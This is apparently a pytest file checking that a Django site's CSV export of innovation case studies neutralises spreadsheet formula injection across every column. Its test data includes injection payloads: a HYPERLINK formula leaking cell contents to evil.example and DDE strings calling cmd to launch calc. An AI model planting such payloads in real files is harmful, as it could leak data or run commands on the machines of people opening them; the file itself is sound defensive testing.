"""The CSV export never hands a spreadsheet a formula: a cell whose text would start
one (`=`, `+`, `-`, `@`, their full-width forms, also after leading white space, and a
leading tab or carriage return) is written with a `'` before it, which spreadsheet
programs read as "this is text". Every column of the export is tried, from its
column list (innovation_cases/exports.py COLUMNS): a new column is in the corpus as
soon as it exists, and a column whose text nobody writes is named as such here.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from typing import Any

import pytest

from core.models import LifecycleStage
from innovation_cases import exports
from innovation_cases.models import (
    CARD_TRANSLATION_FIELDS,
    CaseStudy,
    translation_field,
)
from tests.factories import CaseStudyFactory, CityFactory, DistrictFactory

FORMULAS = {
    "equals": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "carriage-return": "\r=1+1",
    "line-feed": "\n=1+1",
    "space": "  =1+1",
    "no-break-space": "\u00a0=1+1",
    "full-width-equals": "\uff1d1+1",
    "full-width-plus": "\uff0b1",
    "full-width-minus": "\uff0d1",
    "full-width-at": "\uff20SUM(1)",
}
# Text that starts no formula is written as it is.
HARMLESS = ["Bus lanes", "'quoted", "1=1", "a-b", "(=1)"]

# The columns a person's text reaches, and how a case comes to hold `text` (the
# formula called `key`) there. Slugs (of a case, a city, a term) hold letters,
# digits, - and _ only: one that starts with - is the formula they can hold.
WRITTEN: dict[str, Callable[[str, str], dict[str, Any]]] = {
    "slug": lambda key, text: {"slug": f"-{key}"},
    "title": lambda key, text: {"title": text},
    "city": lambda key, text: {"city": CityFactory(name=text)},
    "city_slug": lambda key, text: {"city": CityFactory(slug=f"-{key}")},
    "district": lambda key, text: {"district": DistrictFactory(name=text)},
    "summary": lambda key, text: {"summary": text},
    "lifecycle_stage": lambda key, text: {
        "lifecycle_stage": LifecycleStage.objects.create(
            slug=f"-{key}", name=text, position=99
        )
    },
    # A translation's title and summary, into each language (a case written in
    # another: the original's language has none).
    **{
        column: (
            lambda key, text, column=column: {
                "original_language": "sk" if column.endswith("_en") else "en",
                **dict.fromkeys(
                    [
                        translation_field(name, column.rsplit("_", 1)[1])
                        for name in ("title", "summary")
                    ],
                    "A translated text.",
                ),
                column: text,
            }
        )
        for column in CARD_TRANSLATION_FIELDS
    },
}
# Columns of values the site makes, never text anyone types: a number, a date, an
# ISO country code, a language's code, the site's own address, the vocabularies' slugs
# (which the migrations make; a term made in the admin is tried under lifecycle_stage),
# a choice's value (the evidence of results) and a derived score (the completeness).
MADE_BY_THE_SITE = {
    "url",
    "country",
    "original_language",
    "evidence",
    "completeness",
    "year_started",
    "year_ended",
    "published_at",
    *exports.VOCABULARIES.values(),
}


def test_every_column_of_the_export_is_in_the_corpus():
    assert set(WRITTEN) | MADE_BY_THE_SITE == set(exports.COLUMNS)
    assert not set(WRITTEN) & MADE_BY_THE_SITE


def record_with(column: str, value: Any) -> dict[str, Any]:
    """A record as the export writes it, `value` in `column` (all others blank)."""
    return {name: value if name == column else "" for name in exports.COLUMNS}


@pytest.mark.parametrize("formula", list(FORMULAS))
@pytest.mark.parametrize("column", [*WRITTEN, *exports.VOCABULARIES.values()])
def test_a_cell_that_would_start_a_formula_is_neutralised(column, formula):
    text = FORMULAS[formula]
    value = [text, "other"] if column in exports.VOCABULARIES.values() else text

    cells = exports.csv_cells(record_with(column, value))

    cell = cells[exports.COLUMNS.index(column)]
    shown = ";".join(value) if isinstance(value, list) else value
    assert cell == "'" + shown


@pytest.mark.parametrize("text", HARMLESS)
def test_a_cell_that_starts_no_formula_is_written_as_it_is(text):
    cells = exports.csv_cells(record_with("title", text))

    assert cells[exports.COLUMNS.index("title")] == text


def exported(client: Any) -> list[dict[str, str]]:
    response = client.get("/en/cases/export.csv")
    assert response.status_code == 200
    body = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(body)))


@pytest.mark.django_db
@pytest.mark.parametrize("column", list(WRITTEN))
def test_the_export_neutralises_a_formula_in_every_written_column(client, column):
    made = {}
    for formula, text in FORMULAS.items():
        values = WRITTEN[column](formula, text)
        if "district" in values:
            values["city"] = values["district"].city
        case = CaseStudyFactory(
            published=True, slug=values.pop("slug", f"case-{formula}"), **values
        )
        made[case.slug] = (formula, getattr_column(case, column))

    rows = {row["url"].rstrip("/").rsplit("/", 1)[-1]: row for row in exported(client)}

    assert len(rows) == len(made)
    for slug, (formula, expected) in made.items():
        assert rows[slug][column] == "'" + expected, (formula, rows[slug][column])


def getattr_column(case: CaseStudy, column: str) -> str:
    """What the export holds in `column` for `case`, before neutralisation."""
    return {
        "slug": lambda: case.slug,
        "title": lambda: case.title,
        "city": lambda: case.city.name,
        "city_slug": lambda: case.city.slug,
        "district": lambda: case.district.name,
        "summary": lambda: case.summary,
        "lifecycle_stage": lambda: case.lifecycle_stage.slug,
        **{
            name: (lambda name=name: getattr(case, name))
            for name in CARD_TRANSLATION_FIELDS
        },
    }[column]()
